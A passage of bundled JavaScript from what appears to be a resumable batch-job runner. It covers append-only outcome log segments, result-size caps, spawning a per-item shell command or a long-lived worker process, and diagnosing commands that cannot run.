    // quote is never escaped, so the first ',"n":' is that member. Looking there, not through
    // the whole line, keeps a long result unread.
    const n = text.indexOf(',"n":');
    if (n === -1)
        return false;
    let i = n + 5;
    while (i < text.length && text.charCodeAt(i) >= 0x30 && text.charCodeAt(i) <= 0x39)
        i++;
    return !text.startsWith(',"k":"', i);
}
function viewOf(line, header) {
    const ok = line.k === undefined;
    const view = {
        id: line.id,
        ok,
        startedAt: new Date(line.at).toISOString(),
        finishedAt: new Date(line.at + line.ms).toISOString(),
        durationMs: line.ms,
        attempts: line.n,
        runId: header?.run ?? "",
    };
    if (header?.h === "command")
        view.exitStatus = ok ? 0 : (line.x ?? null);
    if (!ok) {
        view.kind = line.k;
        view.error = line.e ?? "";
    }
    if (line.redo)
        view.redone = true;
    if (header?.shard !== undefined)
        view.shard = header.shard;
    const pass = line.pass ?? header?.pass;
    if (pass !== undefined)
        view.pass = pass;
    if ("r" in line)
        view.result = line.r;
    return view;
}

;// CONCATENATED MODULE: ./src/core/outcomes/outcome-files.ts



/**
 * The job log lives beside the snapshot, not in it: one append-only segment per run,
 * `outcomes-<seq>.jsonl`, so a checkpoint (the snapshot's compaction) never rewrites the
 * outcomes and results already saved, and what a run adds is one new file. Segments are
 * merged into one rarely (more than MAX_SEGMENTS of them), by streaming, never in memory.
 */
const OUTCOMES_PATTERN = /^outcomes-(\d+)\.jsonl$/;
const MAX_SEGMENTS = 16;
function segmentFileName(seq) {
    return `outcomes-${seq}.jsonl`;
}
/** The segment files of a folder, oldest first. */
function listSegments(dir) {
    if (!(0,external_node_fs_.existsSync)(dir))
        return [];
    return (0,external_node_fs_.readdirSync)(dir)
        .map((name) => ({ name, m: OUTCOMES_PATTERN.exec(name) }))
        .filter((e) => e.m !== null)
        .sort((a, b) => Number(a.m[1]) - Number(b.m[1]))
        .map((e) => (0,external_node_path_.join)(dir, e.name));
}
/**
 * Streams the lines of files in order, in batches (one per read chunk). Every line is
 * written with its newline in the same write, so a last line without one was torn by a
 * kill: it is left out and counted in `skipped`.
 */
async function* outcome_files_readLineBatches(paths, skipped = { lines: 0 }) {
    for (const path of paths) {
        let carry = "";
        for await (const chunk of (0,external_node_fs_.createReadStream)(path, { encoding: "utf8", highWaterMark: 1 << 20 })) {
            const text = carry + chunk;
            const lines = text.split("\n");
            carry = lines.pop();
            if (lines.length > 0)
                yield lines;
        }
        if (carry.length > 0)
            skipped.lines++;
    }
}
/** Every outcome of a folder in the order written; unreadable lines are counted, not fatal. */
async function* readOutcomes(dir, skipped = { lines: 0 }) {
    let header;
    for await (const lines of outcome_files_readLineBatches(listSegments(dir), skipped)) {
        const batch = [];
        for (const text of lines) {
            if (text.length === 0)
                continue;
            const parsed = parseLine(text);
            if (parsed === undefined) {
                if (!text.startsWith('{"t":"keys"'))
                    skipped.lines++;
            }
            else if ("t" in parsed)
                header = parsed;
            else
                batch.push({ line: parsed, header });
        }
        if (batch.length > 0)
            yield batch;
    }
}
/**
 * Merges the segments into the newest one's name when there are more than maxSegments: a
 * stream copy through a temp file, renamed over the newest (atomic), then the older ones
 * are removed. A crash between the two leaves lines twice, which readers tolerate (the
 * last success still wins). Torn lines are dropped on the way.
 */
async function compactSegments(dir, maxSegments = MAX_SEGMENTS) {
    const segments = listSegments(dir);
    if (segments.length <= maxSegments)
        return false;
    const target = segments[segments.length - 1];
    const tmp = `${target}.tmp-${process.pid}`;
    const fd = (0,external_node_fs_.openSync)(tmp, "w");
    try {
        let pending = [];
        let pendingChars = 0;
        const flush = () => {
            if (pending.length === 0)
                return;
            (0,external_node_fs_.writeSync)(fd, pending.join("\n") + "\n");
            pending = [];
            pendingChars = 0;
        };
        // The segments' keys lines are replaced by one of the merged results (some segments,
        // of killed runs, have none), so the merged file's keys cover all it holds.
        const keys = new ResultKeys();
        for await (const lines of outcome_files_readLineBatches(segments)) {
            for (const text of lines) {
                const parsed = text.length === 0 ? undefined : parseLine(text);
                if (parsed === undefined)
                    continue;
                if (!("t" in parsed) && "r" in parsed)
                    keys.add(parsed.r);
                pending.push(text);
                pendingChars += text.length;
                if (pendingChars > 1 << 20)
                    flush();
            }
        }
        pending.push(keys.line().trimEnd());
        flush();
        (0,external_node_fs_.fsyncSync)(fd);
    }
    finally {
        (0,external_node_fs_.closeSync)(fd);
    }
    (0,external_node_fs_.renameSync)(tmp, target);
    for (const path of segments.slice(0, -1))
        (0,external_node_fs_.rmSync)(path, { force: true });
    return true;
}

;// CONCATENATED MODULE: ./src/core/outcomes/job-log-writer.ts




/** The default cap on one result: 64 KiB of JSON. */
const DEFAULT_MAX_RESULT_BYTES = 64 * 1024;
/** No job log: what `npm run bench` compares the job log's cost against. */
const NO_JOB_LOG = {
    serialise: () => ({ ok: true, json: undefined }),
    success() { },
    failure() { },
    close() { },
};
/**
 * Appends one line per finished item to this run's segment of the job log, batched like
 * the journal (same interval, and flushed first, so an item the journal calls done has
 * its outcome on disk too).
 */
class JobLogWriter {
    o;
    writer;
    redoExtra;
    resultKeys = new ResultKeys();
    constructor(o) {
        this.o = o;
        const path = (0,external_node_path_.join)(o.stateDir, segmentFileName(o.seq));
        this.writer = new JournalWriter(path, o.system, o.flushIntervalMs, undefined, o.onWriteError);
        const header = { t: "seg", v: 1, seq: o.seq, run: o.runId, att: o.runAttempt, h: o.handlerKind };
        if (o.shard !== undefined)
            header.shard = o.shard;
        if (o.pass !== undefined)
            header.pass = o.pass;
        // A segment of the same seq exists only when an earlier start of this run was killed;
        // the JournalWriter starts on a new line after a torn last line there.
        this.writer.append(JSON.stringify(header) + "\n");
        this.redoExtra = extraMembers({ redone: true });
    }
    /** Serialises a handler's result under the cap; undefined (no result) when results are off. */
    serialise(result) {
        if (!this.o.results || result === undefined)
            return { ok: true, json: undefined };
        let json;
        try {
            json = JSON.stringify(result);
        }
        catch (error) {
            return { ok: false, error: `the result is not JSON-serialisable: ${error.message}` };
        }
        if (json === undefined)
            return { ok: true, json: undefined }; // a function or symbol: no result
        // Cheap first: a string's UTF-8 size is at most three bytes per UTF-16 unit.
        if (json.length * 3 > this.o.maxResultBytes) {
            const bytes = Buffer.byteLength(json);
            if (bytes > this.o.maxResultBytes)
                return { ok: false, error: resultTooLarge(bytes, this.o.maxResultBytes) };
        }
        this.resultKeys.add(result);
        return { ok: true, json };
    }
    success(id, startedAtMs, durationMs, attempts, resultJson) {
        const extra = this.extraFor(id);
        if (extra === "" && resultJson === undefined)
            appendSuccessLine(this.writer, id, startedAtMs, durationMs, attempts);
        else
            this.writer.append(successLine(id, startedAtMs, durationMs, attempts, extra, resultJson));
    }
    failure(id, startedAtMs, durationMs, attempts, kind, error, exitCode) {
        this.writer.append(failureLine(id, startedAtMs, durationMs, attempts, kind, error, exitCode, this.extraFor(id)));
    }
    flush() {
        this.writer.flush();
    }
    close() {
        // Written only by a run that got to its end: a segment without it is read in full.
        if (this.o.results)
            this.writer.append(this.resultKeys.line());
        this.writer.close();
    }
    extraFor(id) {
        // size first: has() hashes the id, a string read from the items whose hash is not cached yet.
        return this.o.redoIds !== undefined && this.o.redoIds.size > 0 && this.o.redoIds.has(id) ? this.redoExtra : "";
    }
}
/** The failure reason for a result over the cap; the same words for every handler kind. */
function resultTooLarge(bytes, maxBytes) {
    return `the result is ${formatBytes(bytes)}, over max-result-size ${formatBytes(maxBytes)}: return less, or raise max-result-size`;
}
function formatBytes(bytes) {
    if (bytes < 1024)
        return `${bytes} bytes`;
    if (bytes < 1024 * 1024)
        return `${+(bytes / 1024).toFixed(1)} KiB`;
    return `${+(bytes / 1024 / 1024).toFixed(1)} MiB`;
}

;// CONCATENATED MODULE: ./src/core/handlers/item-json.ts
/**
 * Linux caps one environment string at 128 KiB (MAX_ARG_STRLEN, counted in bytes): a
 * larger ITEM_JSON or ITEM_ID makes the spawn fail with E2BIG. Values above this many
 * bytes of UTF-8 are left out of the environment (the item is on standard input anyway).
 */
const item_json_MAX_ENV_VALUE_BYTES = 100_000;
/** True when the text fits one environment variable (MAX_ENV_VALUE_BYTES of UTF-8). */
function fitsEnvironment(text) {
    // A UTF-8 character takes at most 3 bytes per UTF-16 unit: skip the count when it cannot matter.
    return text.length * 3 <= item_json_MAX_ENV_VALUE_BYTES || Buffer.byteLength(text, "utf8") <= item_json_MAX_ENV_VALUE_BYTES;
}
/**
 * JSON.stringify for what one item brings (its data, a request naming it): an item nested
 * thousands deep passes the input check (JSON.parse does not recurse) but overflows the
 * stack here. That fails the item, with a reason, never the run.
 */
function serialiseForItem(value, what = "the item") {
    try {
        const json = JSON.stringify(value);
        return { json: json === undefined ? "null" : json };
    }
    catch (error) {
        return { failure: { ok: false, kind: "permanent", error: unserialisableReason(error, what) } };
    }
}
/** Why a value could not be written as JSON, for a failure reason. */
function unserialisableReason(error, what) {
    const message = error instanceof Error ? error.message : "unknown error";
    const hint = error instanceof RangeError ? " (nested too deeply?)" : "";
    return `${what} cannot be written as JSON: ${message}${hint}`;
}

;// CONCATENATED MODULE: ./src/core/handlers/setup-error.ts


/**
 * Exit statuses of `/bin/sh -c` that mean the shell could not run a program: 126 found
 * but not executable, 127 not found (POSIX XCU 2.8.2, "Exit Status for Commands").
 */
const CANNOT_RUN_EXIT_CODES = new Set([126, 127]);
/** spawn() errors that mean the handler cannot start at all, for any item. */
const CANNOT_START_ERROR_CODES = ["ENOENT", "EACCES", "ENOTDIR", "EPERM"];
/** True when a spawn error's text names one of CANNOT_START_ERROR_CODES (both spawn paths put the code in it). */
function isCannotStartError(message) {
    return CANNOT_START_ERROR_CODES.some((code) => new RegExp(`\\b${code}\\b`).test(message));
}
/**
 * Says why a handler command cannot run and how to fix it, for a setup error: the shell's
 * own words (its output tail), then a check of the program the command starts with, when
 * that is a path (`./process.sh`), against the working folder.
 */
function describeCannotRun(o) {
    const program = firstProgram(o.command);
    const parts = [`${o.what} '${o.command}' cannot run (${o.failure}${o.output ? `: ${lastLine(o.output)}` : ""})`];
    const fix = program === undefined ? undefined : fixFor(program, o.cwd);
    parts.push(fix ?? "check that every program the command runs is installed and executable (a script needs `chmod +x` and a #! line)");
    return parts.join(": ");
}
function fixFor(program, cwd) {
    if (!program.includes("/"))
        return undefined;
    const path = (0,external_node_path_.isAbsolute)(program) ? program : (0,external_node_path_.resolve)(cwd, program);
    let isFile;
    try {
        isFile = (0,external_node_fs_.statSync)(path).isFile();
    }
    catch {
        return `${program} not found relative to ${cwd} (the working folder); check the path, or that the file is checked out`;
    }
    if (!isFile)
        return `${program} is not a file`;
    try {
        (0,external_node_fs_.accessSync)(path, external_node_fs_.constants.X_OK);
    }
    catch {
        return `${program} is not executable: run \`chmod +x ${program}\` and commit it (\`git update-index --chmod=+x ${program}\`), or run it through its interpreter (\`sh ${program}\`)`;
    }
    return undefined;
}
/**
 * The program a simple command line starts with, skipping leading VAR=value assignments;
 * undefined when the line starts with shell syntax (a quote, a subshell, a keyword).
 */
function firstProgram(command) {
    const words = command.trim().split(/\s+/);
    let i = 0;
    while (i < words.length && /^[A-Za-z_][A-Za-z0-9_]*=\S*$/.test(words[i]))
        i++;
    const word = words[i];
    if (word === undefined || !/^[\w./@%+,:-]+$/.test(word))
        return undefined;
    return word;
}
function lastLine(text) {
    const lines = text.trim().split("\n");
    const line = lines[lines.length - 1].trim();
    return line.length > 300 ? line.slice(0, 300) + "…" : line;
}

;// CONCATENATED MODULE: ./src/core/handlers/command/command-handler.ts








/**
 * Standard output kept beyond the result cap: trailing whitespace (trimmed away) should not
 * fail an item whose result fits. What is beyond even this fails the item.
 */
const TRIM_SLACK_BYTES = 4096;
/**
 * ITEM_JSON and ITEM_ID above this many bytes of UTF-8 are left out of the environment
 * (ITEM_JSON_ON_STDIN_ONLY=1, ITEM_ID_ON_STDIN_ONLY=1): see MAX_ENV_VALUE_BYTES.
 */
const MAX_ITEM_JSON_ENV_BYTES = (/* unused pure expression or super */ null && (MAX_ENV_VALUE_BYTES));
/**
 * Runs the command once per item: the item's JSON on standard input and in ITEM_JSON,
 * with ITEM_ID, ITEM_ATTEMPT and IDEMPOTENCY_KEY. Each child leads its own process group
 * (a new session), so a stop reaches the whole tree the command started, not just the shell.
 */
function createCommandHandler(options) {
    // Process groups of attempts not settled yet. The runner may walk away from an attempt
    // whose command ignores SIGTERM before the SIGKILL follows (when the shutdown grace is
    // shorter than killGraceMs); close() kills what is left, so no handler outlives the run.
    const running = new Set();
    const launcher = createLauncher(options);
    const seen = { success: false };
    return {
        run: (item, ctx) => runCommand(options, launcher, item, ctx, running).then((result) => asSetupFailure(options, result, seen)),
        async close() {
            for (const pid of running)
                killGroup(pid, "SIGKILL");
            running.clear();
            launcher.close();
        },
    };
}
function createLauncher(options) {
    const node = createNodeLauncher(options);
    const python = options.python ?? "python3";
    if (python === false || options.env.RESUMABLE_BATCH_SPAWN_SERVER === "0")
        return node;
    return createServerLauncher({ ...options, python, onFallback: options.onSpawnServerFallback }, node);
}
/**
 * Exit 126/127 (or a spawn that fails with ENOENT/EACCES) before any command of this run
 * succeeded means the command cannot run at all — a script without its execute bit, a
 * path that does not exist — and says nothing about the item: a setup failure. Once one
 * item succeeded, the command demonstrably runs, and such an exit is that item's own
 * (permanent) failure, so one item's missing tool cannot hold the whole batch.
 */
function asSetupFailure(options, result, seen) {
    if (result.ok)
        seen.success = true;
    const cannotRun = result.cannotRun;
    if (cannotRun === undefined || result.ok)
        return result;
    delete result.cannotRun;
    if (seen.success && !cannotRun.always)
        return result;
    const error = describeCannotRun({
        what: options.name ?? "--run",
        command: options.command,
        cwd: options.cwd ?? process.cwd(),
        failure: cannotRun.failure,
        output: cannotRun.output,
    });
    return { ok: false, kind: "setup", error };
}
function runCommand(options, launcher, item, ctx, running) {
    const exact = exactJson(item);
    const serialised = exact === undefined ? serialiseForItem(item.data) : { json: exact };
    if ("failure" in serialised)
        return Promise.resolve(serialised.failure);
    const json = serialised.json;
    const env = {
        ITEM_ID: item.id,
        ITEM_ATTEMPT: String(ctx.attempt),
        IDEMPOTENCY_KEY: ctx.idempotencyKey,
    };
    if (!fitsEnvironment(item.id)) {
        env.ITEM_ID = undefined;
        env.ITEM_ID_ON_STDIN_ONLY = "1";
    }
    if (fitsEnvironment(json))
        env.ITEM_JSON = json;
    else {
        env.ITEM_JSON = undefined;
        env.ITEM_JSON_ON_STDIN_ONLY = "1";
    }
    return new Promise((resolve) => {
        let pid;
        let killTimer;
        let stopSignal;
        /** Stopped by us and ended before the SIGKILL: its group may outlive it (see finish). */
        let lingering = false;
        const onAbort = () => {
            stopSignal = "SIGTERM";
            if (pid !== undefined)
                killGroup(pid, "SIGTERM");
            killTimer = options.system.setTimer(() => {
                stopSignal = "SIGKILL";
                if (pid !== undefined)
                    killGroup(pid, "SIGKILL");
                if (lingering && pid !== undefined)
                    running.delete(pid);
            }, options.killGraceMs);
        };
        // The spawn server tells the pid a moment after the start: a stop may come first.
        const onStarted = (startedPid) => {
            pid = startedPid;
            running.add(pid);
            if (stopSignal !== undefined)
                killGroup(pid, stopSignal);
        };
        const finish = (outcome) => {
            // Stopped with SIGTERM and ended before the SIGKILL: the command (a `sh -c` wrapper)
            // may have exited while a child that ignores SIGTERM lives on in its process group
            // (the spawn server reports an exit once the pipes stayed open 1 s). The SIGKILL
            // still comes at its time, and close() sends it to the group if the run ends first.
            lingering = stopSignal === "SIGTERM" && killTimer !== undefined && pid !== undefined;
            if (pid !== undefined) {
                // A lost attempt is retried: its command must not run on beside the retry.
                if (outcome.kind === "lost")
                    killGroup(pid, "SIGKILL");
                if (!lingering)
                    running.delete(pid);
            }
            ctx.signal.removeEventListener("abort", onAbort);
            if (!lingering)
                killTimer?.();
            resolve(resultOf(outcome, stopSignal, ctx.signal.aborted, options));
        };
        const keepStdoutBytes = options.maxResultBytes === undefined ? undefined : options.maxResultBytes + TRIM_SLACK_BYTES;
        void launcher.launch({ env, stdin: json + "\n", keepStdoutBytes }, onStarted).then(finish);
        if (ctx.signal.aborted)
            onAbort();
        else
            ctx.signal.addEventListener("abort", onAbort, { once: true });
    });
}
function resultOf(outcome, stopSignal, aborted, options) {
    switch (outcome.kind) {
        case "not-started": {
            const result = { ok: false, kind: "permanent", error: `could not start the command: ${outcome.message}` };
            if (isCannotStartError(outcome.message))
                result.cannotRun = { failure: `could not start: ${outcome.message}`, output: "", always: true };
            return result;
        }
        case "lost":
            return { ok: false, kind: "transient", error: outcome.message };
        case "exited": {
            const { code, signal, output } = outcome;
            if (code === 0)
                return outcome.stdout === undefined ? OK : stdoutResult(outcome.stdout, outcome.stdoutOverflow === true, options.maxResultBytes);
            if (stopSignal !== undefined || aborted) {
                // The runner decides what a stop means (timeout or shutdown); this just reports it.
                return { ok: false, kind: "timeout", error: `stopped with ${stopSignal ?? signal}${output ? `: ${output}` : ""}` };
            }
            if (signal)
                return { ok: false, kind: "transient", error: `killed by ${signal}${output ? `: ${output}` : ""}` };
            const kind = code !== null && options.transientExitCodes.has(code) ? "transient" : "permanent";
            const result = {
                ok: false,
                kind,
                error: `exit code ${code}${output ? `: ${output}` : ""}`,
                ...(code === null ? {} : { exitCode: code }),
            };
            if (code !== null && CANNOT_RUN_EXIT_CODES.has(code) && !options.transientExitCodes.has(code)) {
                result.cannotRun = { failure: `exit code ${code}: ${code === 126 ? "found but not executable" : "not found"}`, output, always: false };
            }
            return result;
        }
    }
}
/**
 * A command's result: its standard output, trimmed; JSON when it parses as JSON, else the
 * text. Empty output is no result. Output past the cap fails the item rather than being cut.
 */
function stdoutResult(stdout, overflow, maxResultBytes) {
    if (overflow) {
        return {
            ok: false,
            kind: "permanent",
            exitCode: 0,
            error: `standard output is over max-result-size ${formatBytes(maxResultBytes)} (a command's result is its standard output: log to stderr, or raise max-result-size)`,
        };
    }
    const text = stdout.toString("utf8").trim();
    if (text === "")
        return OK;
    try {
        return { ok: true, result: JSON.parse(text) };
    }
    catch {
        return { ok: true, result: text };
    }
}

;// CONCATENATED MODULE: external "node:url"
const external_node_url_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");
;// CONCATENATED MODULE: ./src/core/handlers/module-handler.ts





/** Loads the user's module; a missing file or export is a configuration error (exit 2). */
async function loadModuleFunction(file, what) {
    const absolute = (0,external_node_path_.resolve)(file);
    if (!(0,external_node_fs_.existsSync)(absolute))
        throw new ConfigError(`${what}: ${file} does not exist`);
    let mod;
    try {
        // webpackIgnore: the bundler (ncc) would otherwise turn this into an empty import
        // context, and every --module would fail in dist/ with "Cannot find module".
        mod = (await import(/* webpackIgnore: true */ (0,external_node_url_namespaceObject.pathToFileURL)(absolute).href));
    }
    catch (error) {
        throw new ConfigError(`${what}: ${file} could not be loaded: ${error.message}`);
    }
    const candidate = typeof mod.default === "function"
        ? mod.default
        : typeof mod.default?.default === "function"
            ? mod.default.default
            : mod.handler;
    if (typeof candidate !== "function") {
        throw new ConfigError(`${what}: ${file} has no default export function; write \`export default async (item, ctx) => { … }\``);
    }
    return candidate;
}
/**
 * Calls the module's function per item; whatever it throws is classified once, here.
 * Not an async function: a plain `then` on the user's promise spares the async wrapper's
 * own promise and its extra microtask turns on the per-item path.
 */
function createModuleHandler(fn, nowMs, keepResults = false) {
    const failed = (error) => {
        const c = classifyError(error, nowMs());
        return { ok: false, kind: c.kind, error: c.message, retryAfterMs: c.retryAfterMs, throttled: c.throttled };
    };
    const direct = { call: (item, ctx) => fn(item.data, ctx), settled: keepResults ? okWithResult : ok, failed };
    return {
        direct,
        run(item, ctx) {
            let returned;
            try {
                returned = direct.call(item, ctx);
            }
            catch (error) {
                return Promise.resolve(failed(error));
            }
            // Promise.resolve, as `await` would: a native promise as it is, a thenable adopted,
            // any other value (a synchronous function) taken as success.
            return Promise.resolve(returned).then(direct.settled, failed);
        },
    };
}
const ok = () => OK;
/** With --results the return value is the item's result; undefined means none. */
const okWithResult = (value) => (value === undefined ? OK : { ok: true, result: value });

;// CONCATENATED MODULE: ./src/core/handlers/worker-handler.ts






/** Deaths in a row, before the run's first answer, that make the worker a setup error. */
const MAX_DEATHS_BEFORE_ANSWER = 3;
/**
 * A worker of the first protocol answers {"ok":true} without the id and then waits for
 * the next request: its item would never end. So when such a line came while no worker of
 * the run has answered yet, and no answer naming the item follows within this long, the
 * worker is a setup error (with the fix) rather than a hang. A worker that logs an API
 * response with "ok" and then answers properly is unaffected.
 */
const UNNAMED_ANSWER_GRACE_MS = 10_000;
/** What all lanes' workers of one run learn together. */
class WorkerRecord {
    /** Some worker of this run answered a request: the command works. */
    answered = false;
    deathsInARow = 0;
    warnedAboutUnnamedAnswers = false;
}
/**
 * The worker protocol: a long-lived process reads one request line per item on standard
 * input — {"id","attempt","idempotencyKey","item"} — and answers one line on standard
 * output naming the request: {"id":"<the request's id>","ok":true} (with --results,
 * {"id":…,"ok":true,"result":…}), or
 * {"id":…,"ok":false,"error":"…","transient":true,"retryAfterMs":N}. A line that does not
 * name the item in flight is log output (a JSON API response with "ok" a worker logs is
 * never taken as the item's outcome); an answer naming another id is a protocol error:
 * the worker is restarted and the item retried. Each lane of the pool has its own worker,
 * started while the run loads its state and checks the items, which handles one item at a
 * time; a worker that dies fails its item as transient and is started again for the next
 * item. A timeout or a stop kills the worker's process group.
 *
 * A worker that never works is a setup error, not a failure of the items: one that exits
 * 126/127 (its program not executable or not found) before any answer, or that dies
 * MAX_DEATHS_BEFORE_ANSWER times in a row before the first answer of the run, stops the run.
 */
function createWorkerHandler(options) {
    const idle = [];
    const all = new Set();
    const record = new WorkerRecord();
    return {
        warmUp(lanes) {
            for (let i = all.size; i < lanes; i++) {
                const worker = new Worker(options, record);
                all.add(worker);
                idle.push(worker);
            }
        },
        async run(item, ctx) {
            let worker = idle.pop();
            if (!worker || !worker.usable) {
                worker = new Worker(options, record);
                all.add(worker);
            }
            const result = await worker.handle(item, ctx);
            // A worker we are stopping (a protocol error, a timeout) may take a while to exit:
            // it is never handed the next request (the retry would be lost with it).
            if (worker.usable)
                idle.push(worker);
            else if (worker.dead)
                all.delete(worker);
            return result;
        },
        async close() {
            await Promise.all([...all].map((w) => w.shutdown()));
            all.clear();
            idle.length = 0;
        },
    };
}
class Worker {
    o;
    record;
    dead = false;
    child;
    stderr = new OutputTail();
    logTail = new OutputTail();
    buffered = "";
    /** The id of the request in flight: only an answer naming it is its outcome. */
    inFlightId;
    waiting;
    exitDescription = "";
    /** How the worker ended, when that says it could not run at all (126/127, ENOENT). */
    cannotRun;
    /** Pending while an unnamed {"ok":…} line waits for a named answer (see UNNAMED_ANSWER_GRACE_MS). */
    cancelUnnamedTimer;
    /** We stopped it (a timeout, a stop, a protocol error): not a death of its own. */
    killedByUs = false;
    exited;
    constructor(o, record) {
        this.o = o;
        this.record = record;
        this.child = o.system.spawn("/bin/sh", ["-c", o.command], { cwd: o.cwd, env: o.env, detached: true, stdio: ["pipe", "pipe", "pipe"] });
        this.child.stdin?.on("error", () => { });
        this.child.stderr?.on("data", (c) => this.stderr.push(c));
        this.child.stdout?.setEncoding("utf8");
        this.child.stdout?.on("data", (text) => this.onStdout(text));
        this.exited = new Promise((resolve) => {
            this.child.on("error", (error) => {
                this.exitDescription = `could not start the worker: ${error.message}`;
                if (isCannotStartError(error.message))
                    this.cannotRun = error.message;
                this.onExit();
                resolve();
            });
            this.child.on("close", (code, signal) => {
                this.exitDescription = `the worker exited (${code === null ? signal : `exit code ${code}`})`;
                if (code !== null && CANNOT_RUN_EXIT_CODES.has(code))
                    this.cannotRun = `exit code ${code}`;
                this.onExit();
                resolve();
            });
        });
    }
    /** Neither exited nor being stopped by us: it may take a request. */
    get usable() {
        return !this.dead && !this.killedByUs;
    }
    handle(item, ctx) {
        if (this.dead)
            return Promise.resolve({ ok: false, kind: "transient", error: this.exitDescription });
        const request = requestLine(item, ctx);
        if ("failure" in request)
            return Promise.resolve(request.failure);
        return new Promise((resolve) => {
            const onAbort = () => this.kill();
            this.waiting = (result) => {
                this.cancelUnnamedTimer?.();
                this.cancelUnnamedTimer = undefined;
                ctx.signal.removeEventListener("abort", onAbort);
                this.waiting = undefined;
                this.inFlightId = undefined;
                resolve(result);
            };
            if (ctx.signal.aborted)
                return this.kill();
            ctx.signal.addEventListener("abort", onAbort, { once: true });
            this.inFlightId = item.id;
            this.child.stdin?.write(request.json + "\n");
        });
    }
    onStdout(text) {
        this.buffered += text;
        let nl;
        while ((nl = this.buffered.indexOf("\n")) !== -1) {
            const line = this.buffered.slice(0, nl);
            this.buffered = this.buffered.slice(nl + 1);
            const answer = parseAnswer(line, this.inFlightId, this.o.keepResults === true);
            if (answer.type === "answer") {
                this.record.answered = true;
                this.record.deathsInARow = 0;
                this.waiting?.(answer.result);
            }
            else if (answer.type === "other-id") {
                this.protocolError(answer.id);
            }
            else {
                if (answer.unnamed)
                    this.onUnnamedAnswer();
                this.logTail.push(line + "\n");
            }
        }
    }
    /** An answer for an id not in flight: this worker's answers cannot be trusted any more. */
    protocolError(id) {
        const inFlight = this.inFlightId;
        this.waiting?.({
            ok: false,
            kind: "transient",
            error: `protocol error: the worker answered for id ${JSON.stringify(id)} while ${JSON.stringify(inFlight)} was in flight; the worker was restarted and the item is retried`,
        });
        this.kill();
    }
    /** A line like an answer of the first protocol ({"ok":…} without "id"): log output, and a warning. */
    onUnnamedAnswer() {
        this.warnUnnamed();
        if (this.record.answered || this.waiting === undefined || this.cancelUnnamedTimer !== undefined)
            return;
        this.cancelUnnamedTimer = this.o.system.setTimer(() => {
            this.cancelUnnamedTimer = undefined;
            if (this.record.answered)
                return;
            this.waiting?.({
                ok: false,
                kind: "setup",
                error: `${this.o.name ?? "--worker"} '${this.o.command}' answers without the request's id (it printed {"ok":…} and nothing naming ` +
                    `${JSON.stringify(this.inFlightId)} followed): answers name the request they answer, {"id":"<the request's id>","ok":true}; ` +
                    "update the worker (see the README's worker protocol)",
            });
        }, this.o.unnamedAnswerGraceMs ?? UNNAMED_ANSWER_GRACE_MS);
    }
    warnUnnamed() {
        if (this.record.warnedAboutUnnamedAnswers)
            return;
        this.record.warnedAboutUnnamedAnswers = true;
        this.o.warn?.(`the worker printed a line with "ok" but without the request's "id": taken as log output. ` +
            `Answers name the request they answer: {"id":"<the request's id>","ok":true} (see the README's worker protocol)`);
    }
    onExit() {
        this.dead = true;
        const tail = this.stderr.value() || this.logTail.value();
        const described = `${this.exitDescription}${tail ? `: ${tail}` : ""}`;
        if (!this.killedByUs)
            this.record.deathsInARow++;
        const neverWorked = !this.record.answered && !this.killedByUs;
        if (neverWorked && (this.cannotRun !== undefined || this.record.deathsInARow >= MAX_DEATHS_BEFORE_ANSWER)) {
            this.waiting?.({ ok: false, kind: "setup", error: this.setupMessage(tail) });
            return;
        }
        // A worker dying mid-item says little about the item itself: treat it as transient, so
        // the item is tried again with a fresh worker; repeated deaths exhaust the attempts.
        this.waiting?.({ ok: false, kind: "transient", error: described });
    }
    setupMessage(tail) {
        const what = this.o.name ?? "--worker";
        if (this.cannotRun !== undefined) {
            return describeCannotRun({ what, command: this.o.command, cwd: this.o.cwd ?? process.cwd(), failure: this.cannotRun, output: tail });
        }
        return (`${what} '${this.o.command}' died ${this.record.deathsInARow} times in a row without answering any item ` +
            `(last: ${this.exitDescription}${tail ? `: ${tail}` : ""}); fix the worker, or, if one item crashes it, have it answer {"id":…,"ok":false} for that item`);
    }
    kill() {
        if (this.dead || this.child.pid === undefined)
            return;
        this.killedByUs = true;
        const pid = this.child.pid;
        if (!killGroup(pid, "SIGTERM"))
            return;
        const cancel = this.o.system.setTimer(() => killGroup(pid, "SIGKILL"), this.o.killGraceMs);
        void this.exited.then(cancel);
    }
    /** Closes stdin (the worker's cue to exit), then stops it if it lingers. */
    async shutdown() {
        if (this.dead)
            return;
        this.killedByUs = true;
        this.child.stdin?.end();
        const cancel = this.o.system.setTimer(() => this.kill(), 1000);
        await this.exited;
        cancel();
    }
}
/**
 * Reads one line of worker output against the id in flight. The one place that knows the
 * answer's fields: {"id", "ok", "result", "error", "transient", "retryAfterMs"}.
 */
function parseAnswer(line, inFlightId, keepResults = false) {
    const text = line.trim();
    if (!text.startsWith("{"))
        return LOG;
    let value;
    try {
        value = JSON.parse(text);
    }
    catch {
        return LOG;
    }
    if (typeof value !== "object" || value === null || typeof value.ok !== "boolean")
        return LOG;
    if (!("id" in value))
        return UNNAMED;
    const id = typeof value.id === "string" ? value.id : (JSON.stringify(value.id) ?? String(value.id));
    if (typeof value.id !== "string" || id !== inFlightId)
        return { type: "other-id", id };
    if (value.ok)
        return { type: "answer", result: keepResults && value.result !== undefined ? { ok: true, result: value.result } : OK };
    const error = typeof value.error === "string" && value.error !== "" ? value.error : "the worker reported a failure without a message";
    const retryAfterMs = typeof value.retryAfterMs === "number" && value.retryAfterMs >= 0 ? value.retryAfterMs : undefined;
    return {
        type: "answer",
        result: { ok: false, kind: value.transient === true ? "transient" : "permanent", error, retryAfterMs, throttled: retryAfterMs !== undefined },
    };
}
const LOG = Object.freeze({ type: "log" });
const UNNAMED = Object.freeze({ type: "log", unnamed: true });
/**
 * One request line: the item as the source wrote it when there is such a text (large
 * numbers keep their digits), spliced in after the fields the engine writes. A JSON
 * array's element may span lines; a line break in valid JSON text outside a string is
 * whitespace, so it becomes a space and the request stays one line.
 */
function requestLine(item, ctx) {
    const exact = exactJson(item);
    if (exact === undefined)
        return serialiseForItem({ id: item.id, attempt: ctx.attempt, idempotencyKey: ctx.idempotencyKey, item: item.data }, "the item");
    const head = serialiseForItem({ id: item.id, attempt: ctx.attempt, idempotencyKey: ctx.idempotencyKey }, "the item");
    if ("failure" in head)
        return head;
    const raw = /[\r\n]/.test(exact) ? exact.replace(/[\r\n]+/g, " ") : exact;
    return { json: `${head.json.slice(0, -1)},"item":${raw}}` };
}

;// CONCATENATED MODULE: ./src/core/handlers/create-handler.ts



async function createHandler(spec, environment) {
